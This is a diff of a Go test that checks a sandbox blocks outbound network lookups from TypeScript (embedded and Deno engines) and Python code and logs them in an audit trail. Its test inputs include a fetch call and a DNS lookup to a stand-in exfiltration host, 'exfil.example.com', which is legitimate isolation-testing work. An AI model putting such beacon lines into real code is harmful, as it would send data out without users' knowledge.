@@ -18,12 +18,17 @@ import (
 // (before, a lookup failed with "connection refused" and nothing was
 // recorded). The jail's resolver only answers: queries of every shape,
 // forged responses and floods leave through nothing and are bounded.
+//
+// TypeScript's fetch on each engine, one-shot: Deno's is its own, in the
+// program's process; the embedded engine's is Go's.
 func TestAttackOfflineLookups(t *testing.T) {
 	testenv.NeedRoot(t, "serves a resolver in the jail's network namespace")
 	cfg := config.Default()
-	for _, tc := range []struct{ lang, src string }{
-		{"ts", `try { await fetch("https://exfil.example.com/?d=1") } catch (e) { console.log("refused:", e.message) }`},
-		{"py", `import socket
+	const ts = `try { await fetch("https://exfil.example.com/?d=1") } catch (e) { console.log("refused:", e.message) }`
+	for _, tc := range []struct{ name, lang, engine, src string }{
+		{"ts", "ts", config.EngineEmbedded, ts},
+		{"ts on deno", "ts", config.EngineDeno, ts},
+		{"py", "py", "", `import socket
 try:
     socket.getaddrinfo("exfil.example.com", 443)
 except OSError as e:
@@ -47,13 +52,17 @@ except socket.timeout:
 print("answers", got)
 `},
 	} {
-		t.Run(tc.lang, func(t *testing.T) {
+		t.Run(tc.name, func(t *testing.T) {
 			if tc.lang == "py" && unix.Access(cfg.Runtimes.Python, unix.X_OK) != nil {
 				testenv.Missing(t, "needs python3 at runtimes.python (apt-get install python3)")
 			}
+			cfg := *cfg
+			if cfg.Runtimes.Engine = tc.engine; tc.engine == config.EngineDeno {
+				needDeno(t, &cfg)
+			}
 			var trail testenv.Buffer
 			w := audit.New(&trail)
-			res := runOneShot(t, cfg, tc.lang, tc.src, Options{Audit: w})
+			res := runOneShot(t, &cfg, tc.lang, tc.src, Options{Audit: w})
 			if err := w.Close(); err != nil {
 				t.Fatal(err)
 			}
